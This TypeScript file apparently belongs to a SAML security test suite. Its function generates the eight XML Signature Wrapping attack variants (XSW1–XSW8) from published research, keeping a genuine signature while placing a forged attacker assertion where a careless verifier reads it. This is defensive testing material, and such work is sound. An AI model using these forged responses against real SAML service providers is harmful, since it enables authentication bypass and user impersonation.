import { cut } from './saml-documents.ts';

/**
 * Creates the eight variants of signature wrapping (Somorovsky et al., "On Breaking SAML", 2012): each keeps the signed
 * element somewhere in the document and puts an assertion of the attacker where a careless reader looks.
 *
 * @param valid response whose assertion is signed, and which is signed itself for the first two variants
 * @param forge converts the signed assertion into that of the attacker
 */
export function wrapResponse(
  validResponseSigned: string,
  validAssertionSigned: string,
  forge: (assertion: string) => string,
): Readonly<Record<string, string>> {
  const withoutSignature = (xml: string) => xml.replace(/<ds:Signature[\s\S]*?<\/ds:Signature>/, '');
  const newId = (xml: string) => xml.replace(/ ID="[^"]+"/, ' ID="_evil"');
  const signatureOf = (xml: string) => /<ds:Signature[\s\S]*?<\/ds:Signature>/.exec(xml)![0];

  // Variants of a signed response.
  const response = validResponseSigned;
  const responseSignature = signatureOf(response);
  const original = response.replace(responseSignature, '');
  const evilResponse = newId(forge(original));
  const openTag = /^<samlp:Response[^>]*>/.exec(evilResponse)![0];

  // Variants of a signed assertion.
  const { element: assertion } = cut(validAssertionSigned, 'Assertion');
  const evil = newId(forge(withoutSignature(assertion)));
  const signature = signatureOf(assertion);
  const bare = assertion.replace(signature, '');
  const into = (inside: string) => validAssertionSigned.replace(assertion, inside);
  const insert = (outer: string, inner: string) => outer.replace('</saml:Assertion>', `${inner}</saml:Assertion>`);
  const wrapSignature = (inner: string) =>
    signature.replace('</ds:Signature>', `<ds:Object>${inner}</ds:Object></ds:Signature>`);

  return {
    XSW1: evilResponse.replace(
      openTag,
      `${openTag}${responseSignature.replace('</ds:Signature>', `<ds:Object>${original}</ds:Object></ds:Signature>`)}`,
    ),
    XSW2: evilResponse.replace(openTag, `${openTag}${original}${responseSignature}`),
    XSW3: into(`${evil}${assertion}`),
    XSW4: into(insert(evil, assertion)),
    XSW5: into(`${insert(evil, signature)}${bare}`),
    XSW6: into(insert(evil, wrapSignature(bare))),
    XSW7: into(`<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
    XSW8: into(
      insert(evil, wrapSignature(bare))
        .replace('<ds:Object>', '<ds:Object xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><samlp:Extensions>')
        .replace('</ds:Object>', '</samlp:Extensions></ds:Object>'),
    ),
  };
}
